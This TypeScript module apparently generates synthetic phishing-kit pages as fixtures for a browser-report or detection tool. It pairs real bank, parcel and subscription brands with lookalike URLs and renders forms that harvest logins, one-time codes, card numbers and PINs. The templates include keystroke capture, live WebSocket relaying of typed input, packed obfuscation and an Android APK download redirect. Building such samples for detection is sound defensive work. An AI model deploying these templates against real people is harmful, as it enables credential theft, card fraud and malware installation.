/** Kits that ask for cards and one-time codes in the name of banks, parcel services and subscriptions. */
import type { Builders, Saved } from '../browser-report.ts';
import { base64, hexDigits, letters, packed } from '../obfuscation.ts';
import * as v from '../vendors.ts';
import { inlineStyle, sections, table, words } from '../words.ts';

const BANKS = table(`
de|Sparkasse|https://sparkasse-pushtan-aktivierung.de-kunden.com/anmelden|plz
de|Volksbank|http://vr-securego-plus.online/portal/login.php|live
de|Postbank|https://www.cafe-am-markt.example/.well-known/postbank/de/index.php|zip
de|comdirect|https://kunde.comdirect.phototan-neu.info/lp/wt/login|qr
fr|Crédit Agricole|https://ca-securipass-activation.fr.mon-espace.cc/particulier/acces.php|keypad
fr|Société Générale|https://particuliers-sg.web.app/connexion|keypad
fr|Boursorama|http://198.51.100.61/clients.boursorama.com/connexion/|keypad
es|BBVA|https://bbva-verificacion.cliente-seguro.es.tl/|live
es|CaixaBank|https://caixabanknow.es-acceso.top/login|live
es|Santander|https://particulares-bancosantander.duckdns.org/|plain
it|Intesa Sanpaolo|https://intesa-aggiornamento-dati.com/index.php?pos=1|live
it|Poste Italiane|https://postepay.verifica-conto.repl.co/|plain
it|UniCredit|http://unicredit-sicurezza.000webhostapp.com/it/privati/|zip
pt|Caixa|https://cgd-pt.seguranca-app.me/login.html|plain
pt|Itaú|https://itau-tokens-atualize.com.br.sincronizar.site/|live
nl|ING|https://mijn.ing-verificatie.nl.betaalpas.pw/login|plain
nl|Rabobank|https://rabo-scanner-vervanging.com/klanten|qr
pl|PKO|https://ipko-pl.logowanie.click/secure|packer
pl|mBank|http://mbank-blokada.pl.zabezpieczenia.cfd/|plain
tr|Ziraat|https://ziraat-sube.basvuru-kredi.net/giris.php|live
tr|Garanti|http://203.0.113.131/garantibbva/sube/|plain
ja|三井住友カード|https://smbc-card.com.vpass-kakunin.cn/mem/index.jsp|plain
ja|三菱UFJ|https://www.bk-mufg-jp.shjtrd.icu/|zip
zh|工商银行|http://wap.icbcvo.cc/|packer
ru|Сбербанк|https://sberbank-bonus.spasibo-vyplata.ru.com/login|live
ar|الراجحي|https://alrajhi-tahdith.pages.dev/login|plain
en|Chase|https://chase-secure09.verify-alerts.com/auth/fcc/login?token=99|multi
en|HSBC|https://hsbc.remove-payee-device.co.uk.cancel.live/Login.php|live
en|Wells Fargo|http://www.stjohnsparish.example/images/wf/wellsfargo/security.php|multi`);

const KITS: Record<string, (brand: string, lang: string, n: number) => string> = {
  plain: (brand, lang, n) =>
    `<form name="${letters(n, 6)}" action="${['login.php', 'auth/verify.php', 'snd.php', '1.php'][n % 4]}" method="POST"><input type="text" name="usr${n}" maxlength="12" required placeholder="${words(lang).user}"><input type="password" name="psw" required placeholder="${words(lang).password}"><button>${words(lang).enter}</button></form><div class="alert">${words(lang).threat}</div><a href="javascript:void(0)">${words(lang).forgot}</a><a href="javascript:void(0)">© ${brand}</a>`,
  plz: (_brand, lang) =>
    `<form method="post" action="weiter.php"><h3>Finden Sie Ihre Sparkasse</h3><input name="plz" placeholder="PLZ oder Ort"><input name="blz" type="hidden"></form><form method="post" action="finish.php" style="display:none" id="s2"><input name="anmeldename" placeholder="Anmeldename"><input type="password" name="pin" placeholder="Online-PIN"><input name="geburt" placeholder="TT.MM.JJJJ"><input name="ecnr" placeholder="${words(lang).card} (EC)"><input type="tel" name="handy"></form><p>Die pushTAN-Registrierung läuft am heutigen Tag ab. ${words(lang).threat}</p><script>$.getJSON('data/filialen.json',function(d){window.f=d});document.forms[0].onsubmit=function(){document.getElementById('s2').style.display='block';return false}</script>`,
  live: (brand, lang, n) =>
    `<div id="page1"><form id="lg"><input id="u" placeholder="${words(lang).user}"><input id="p" type="password" placeholder="${words(lang).password}"><button>${words(lang).enter}</button></form></div><div id="load" style="display:none"><img src="img/spinner.gif"> ${brand}...</div><div id="otp" style="display:none"><p>SMS</p><input id="code" maxlength="6" inputmode="numeric"><button onclick="cmd('otp',code.value)">OK</button></div><script src="js/jquery-3.6.0.min.js"></script><script>var uid="${hexDigits(n, 10)}";function cmd(t,v){$.post("core/gate.php",{uid:uid,type:t,val:v});$("#load").show();$("#otp,#page1").hide()}$("#lg").on("submit",function(e){e.preventDefault();cmd("login",$("#u").val()+"|"+$("#p").val())});setInterval(function(){$.get("core/status.php?uid="+uid,function(r){if(r=="sms"){$("#load").hide();$("#otp").show()}if(r=="err"){$("#load").hide();$("#page1").show();alert("${words(lang).password}!")}if(r=="out"){top.location="https://www.google.com/search?q=${encodeURIComponent(brand)}"}})},2500);document.addEventListener("keyup",function(e){navigator.sendBeacon("core/k.php",uid+":"+e.target.id+":"+e.target.value)});</script>`,
  zip: (brand, lang, n) =>
    `<!-- saved from url=(0031)https://www.original-bank.example/ --><iframe src="./${brand.length}_files/saved_resource.html" style="display:none"></iframe><form action="../../rezult/${hexDigits(n, 5)}.php?cmd=_login&amp;session=${hexDigits(n, 32)}" method="post"><input name="login_${n}" placeholder="${words(lang).user}"><input name="pass_${n}" type="password"><input type="hidden" name="browser_fingerprint"><input type="submit" value="${words(lang).enter}"></form><script src="./${brand.length}_files/gtm.js.download"></script><p>${words(lang).threat}</p>`,
  qr: (brand, lang) =>
    `<form enctype="multipart/form-data" method="post" action="upload.php"><h2>${brand}: photoTAN / Scanner</h2><p>${words(lang).threat}</p><input name="zugangsnummer"><input name="pin" type="password"><label>Foto des Aktivierungsbriefs (QR)<input type="file" name="brief" accept="image/*" capture></label><button>${words(lang).enter}</button></form>`,
  keypad: (brand, lang, n) =>
    `<form id="f" action="go/${n}/mdp.php" method="post"><input name="ident" maxlength="11" placeholder="${words(lang).user}"><div class="pave">${[0, 1, 2, 3, 4, 5, 6, 7, 8, 9].map((d) => `<a href="#" class="b" data-v="${(d * 7 + n) % 10}">${(d * 7 + n) % 10}</a>`).join('')}</div><input type="password" name="code" id="code" readonly maxlength="6"><input type="hidden" name="region" value="${n}"></form><script>$('.b').click(function(){var c=$('#code');if(c.val().length<6)c.val(c.val()+$(this).data('v'));if(c.val().length==6)$('#f').submit();return false});</script><p>Activez votre SécuriPass — ${brand}. ${words(lang).threat}</p>`,
  packer: (brand, lang, n) =>
    `<div id="r${n}">${brand}</div><script>${packed(`document.getElementById("r${n}").innerHTML="<form action=xt.php method=post><input name=acc placeholder=${words(lang).user.split(' ')[0]}><input name=pwd type=password><input name=tel><input name=idno><input type=submit></form>";setInterval(function(){var x=new XMLHttpRequest();x.open("GET","zt.php?t="+Math.random(),false);x.send();if(x.responseText=="1")location.href="yzm.php"},3000)`)}</script><p>${words(lang).threat}</p>`,
  multi: (brand, lang, n) =>
    `<h1>${brand} Online</h1><p>We noticed unusual activity. ${words(lang).threat}</p><form action="${hexDigits(n, 8)}/verify2.php" method="post">${['userid', 'password', 'email', 'emailpass', 'ssn', 'dob', 'mmn', 'ccn', 'exp', 'cvv', 'atmpin', 'zip'].map((name) => `<label>${name.toUpperCase()}<input name="${name}" type="${/pass|pin/.test(name) ? 'password' : 'text'}" required></label>`).join('<br>')}<input type="submit" value="Continue"></form><iframe src="https://www.wikipedia.org/" width="0" height="0"></iframe>`,
};

const SENDERS = table(`
de|DHL|https://dhl-paket-zoll.com/track/?id=8821|Ihr Paket wartet auf Zustellung. Zollgebühr: 2,99 €|card
de|Hermes|https://myhermes-zustellung.live/9a1f|Adresse unvollständig – neue Zustellung planen (0,99 €)|steps
fr|Chronopost|https://chronopost-relivraison.fr.frais-colis.top/suivi|Frais de réexpédition : 1,95 €|card
fr|Colissimo|https://colissimo-suivi.workers.dev/|Votre colis est en attente d’affranchissement|steps
es|Correos|https://correos-aduana.es.envio-pendiente.vip/pagar.php|Su paquete está retenido. Pague 1,79 €|card
it|BRT|https://brt-spedizione.consegna-oggi.site/it/|Pacco in giacenza: spese 1,50 €|steps
pt|CTT|https://ctt-expresso.alfandega-pt.com/pagamento|Taxa alfandegária pendente: 2,45 €|card
nl|PostNL|https://postnl-invoerrechten.nl.pakket.icu/|Er staat nog € 1,95 aan invoerrechten open|ideal
pl|InPost|https://inpost-pl.doplata-paczka.online/platnosc|Dopłata do przesyłki 1,49 zł|blik
tr|PTT Kargo|https://ptt-kargo.adres-guncelle.com/odeme|Kargonuz şubede bekliyor: 9,99 TL|card
ja|佐川急便|http://sagawa-exp.duckdns.org/|お荷物のお届けにあがりましたが不在の為持ち帰りました|apk
zh|顺丰速运|https://sf-express.jijian-cx.cn.com/pay|快递丢失理赔，请填写收款银行卡|card
ru|СДЭК|https://cdek.oplata-zakaz.pw/order/7712901|Получить средства 8 500 ₽ за товар|steps
ar|أرامكس|https://aramex-ksa.taslim-shahna.xyz/|شحنتك معلقة: رسوم 14.99 ريال|card
en|Royal Mail|https://royalmail.rebook-fee.co.uk.delivery-8.info/|Unpaid shipping fee £1.45|steps
en|Evri|http://evri-redeliver.github.io.parcel-uk.shop/index.php|Missed delivery, reschedule for £0.75|card
de|Netflix|https://netflix-zahlung.de.konto-aktualisieren.app/login|Ihre Zahlung wurde abgelehnt|steps
es|Netflix|https://netfliix-suscripcion.firebaseapp.com/YourAccount|Actualice su forma de pago|card
fr|Disney+|https://disneyplus-facturation.web.app/|Votre abonnement a expiré|steps
en|Spotify|https://spotify-premium-renew.herokuapp.com/payment.html|Your Premium payment failed|card
en|EE|https://ee-billing.account-update.uk.com/|Your latest bill could not be processed|steps
fr|Free Mobile|https://mobile-free-fr.regul-facture.info/moncompte/index.php|Prélèvement rejeté : 19,99 €|card
de|Telekom|https://telekom-rechnung.kundencenter.su/|Rechnung 43,95 € offen – Sperrung droht|steps
nl|KPN|https://kpn-factuur.nl.openstaand.tk/betaal|Uw abonnement wordt afgesloten|ideal
pl|Netflix|https://netflix-pl.odnow.click/|Odnów subskrypcję, aby oglądać dalej|card
ja|Amazon|https://amazon.co.jp.account-kakunin.qpon/ap/signin|お支払い方法の情報を更新してください|steps
tr|HGS|https://hgs-ihlalli-gecis-sorgula.com.tr-odeme.net/|İhlalli geçiş borcunuz: 68,25 TL|card
zh|ETC|http://etc-fwh.xyz/|您的ETC已失效，请重新签办|steps
en|E-ZPass|https://ezpassny.com-tollbill-fk.xin/us|You have an unpaid toll of $6.99|card
en|Booking.com|https://booking.guest-confirm-1182.com/p/881203|Confirm your card within 12 hours or your reservation is cancelled|hotel`);

const CHECKS: Record<string, (text: string, lang: string, n: number) => string> = {
  card: (text, lang, n) =>
    `<h2>${text}</h2><form method="post" action="${['pay.php', 'cc.php', 'app/post/cc', './config/send_cc.php'][n % 4]}"><input name="name" placeholder="Name"><input name="cc" id="cc" maxlength="19" placeholder="${words(lang).card}" inputmode="numeric"><input name="exp" maxlength="5" placeholder="${words(lang).expiry}"><input name="cvv" maxlength="4" placeholder="CVV"><button>${words(lang).pay}</button></form><script src="https://cdnjs.cloudflare.com/ajax/libs/cleave.js/1.6.0/cleave.min.js"></script><script>new Cleave('#cc',{creditCard:true});document.forms[0].addEventListener('submit',function(e){var s=0,d=document.getElementById('cc').value.replace(/\\s/g,'');for(var i=0;i<d.length;i++){var x=+d[d.length-1-i];if(i%2){x*=2;if(x>9)x-=9}s+=x}if(s%10){e.preventDefault();alert('${words(lang).card}!')}});</script>`,
  steps: (text, lang, n) =>
    `<div id="app" data-v-${hexDigits(n, 8)}><p>${text}</p><p>${words(lang).threat}</p><form data-step="1" id="i"><input name="fullname"><input name="address"><input name="phone" type="tel"><input name="email" type="email"></form><form data-step="2" style="display:none" id="c"><input name="cardNumber"><input name="expire"><input name="cvc"></form><form data-step="3" style="display:none" id="o"><p>3-D Secure</p><input name="otp" maxlength="8"></form><button id="next">${words(lang).enter}</button></div><script>var s=1;var ws=new WebSocket((location.protocol=='https:'?'wss://':'ws://')+location.host+'/ws?id=${hexDigits(n + 2, 12)}');document.getElementById('next').onclick=function(){var f=document.querySelector('[data-step="'+s+'"]');ws.send(JSON.stringify({step:s,data:Object.fromEntries(new FormData(f))}));f.style.display='none';s++;var g=document.querySelector('[data-step="'+s+'"]');if(g)g.style.display='block'};ws.onmessage=function(m){var d=JSON.parse(m.data);if(d.go)location.href=d.go};document.querySelectorAll('input').forEach(function(i){i.addEventListener('input',function(){ws.readyState==1&&ws.send(JSON.stringify({typing:i.name,v:i.value}))})});</script>`,
  ideal: (text, lang, n) =>
    `<h2>${text}</h2><p>Kies uw bank</p>${['ing', 'rabo', 'abn', 'sns', 'asn', 'bunq', 'knab'].map((bank) => `<a href="banken/${bank}/login.php?s=${hexDigits(n, 12)}"><img src="img/${bank}.png" alt="${bank}"></a>`).join('')}<form action="post.php" method="post"><input name="rek" placeholder="Rekeningnummer"><input name="pas" placeholder="Pasnummer"><input name="pin" type="password" maxlength="5"><button>${words(lang).pay}</button></form>`,
  blik: (text, lang, n) =>
    `<h2>${text}</h2><div class="banks">${['mBank', 'PKO BP', 'ING', 'Santander', 'Pekao'].map((bank, i) => `<button onclick="wybierz(${i})">${bank}</button>`).join('')}</div><form id="b" style="display:none" action="api/bank.php?h=${n}" method="post"><input name="login"><input name="haslo" type="password"><input name="pesel"><input name="blik" maxlength="6"></form><script>function wybierz(i){document.getElementById('b').style.display='block';document.title=['mBank','iPKO','ING','S24','P24'][i]}</script><p>${words(lang).threat}</p>`,
  apk: (text) =>
    `<p>${text}。配送物は下記よりご確認ください。</p><script>var u=navigator.userAgent;if(/Android/.test(u)){alert("サービスを改善するため、最新版Chromeにアップデートしてください");location.href="/sagawa9.apk"}else if(/iPhone|iPad/.test(u)){alert("Apple IDの異常ログインを検出しました");location.href="http://203.0.113.61/id/"}else{location.href="https://www.sagawa-exp.co.jp/"}</script>`,
  hotel: (text, lang) =>
    `<div class="bui-card"><p>Dear guest, ${text}.</p><p>Hotel Bellevue, 2 nights, € 412.00</p><form method="POST" action="/api/submit/881203"><input name="holder"><input name="pan" placeholder="${words(lang).card}"><input name="expiry"><input name="csc"><button>Verify (you will not be charged)</button></form></div><div id="chat"><iframe src="/support/881203" width="320" height="420"></iframe></div>`,
};

export const payments = {
  bankKit: () =>
    BANKS.map(
      ([lang = 'en', brand = '', url = '', kit = 'plain'], n): Saved => [
        url,
        `<!doctype html><html lang="${lang}"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width"><title>${n % 4 === 0 ? words(lang).enter : `${brand} ${n % 2 ? '- ' : '| '}${words(lang).enter}`}</title><link href="assets/${letters(n, 5)}.css" rel="stylesheet">${n % 5 === 2 ? `<script>if(!window.location.hash){window.location=window.location+'#${base64(brand).slice(0, 8)}'}</script>` : ''}</head><body>${n % 3 === 1 ? inlineStyle(n) : ''}<div class="header"><img src="assets/img/${n}.svg">${n % 2 ? sections(lang, n % 3 ? '#' : `https://www.${brand.toLowerCase().replaceAll(/[^a-z]/g, '') || 'smbc'}.${lang === 'en' ? 'com' : lang}`, n) : ''}</div>${KITS[kit]?.(brand, lang, n)}</body></html>`,
      ],
    ),
  feeKit: () =>
    SENDERS.map(
      ([lang = 'en', brand = '', url = '', text = '', check = 'card'], n): Saved => [
        url,
        `<!DOCTYPE html><html lang="${lang}"><head><title>${n % 3 ? brand : `${brand} ${hexDigits(n, 4).toUpperCase()}`}</title><meta name="robots" content="noindex">${n % 4 === 1 ? `<script disable-devtool-auto src="https://cdn.jsdelivr.net/npm/disable-devtool"></script>` : ''}</head><body><nav><img src="logo${n}.png" alt="${brand}"><a href="#">Menu</a></nav>${CHECKS[check]?.(text, lang, n)}${n % 5 < 3 ? sections(lang, n % 5 === 1 ? `https://www.${brand.toLowerCase().replaceAll(/[^a-z]/g, '') || 'sagawa-exp'}.${lang === 'en' ? 'com' : lang}` : '#', n) : ''}<footer><a href="#">${brand} ©</a></footer>${n % 6 === 0 ? v.stack(n) : ''}</body></html>`,
      ],
    ),
} satisfies Builders;
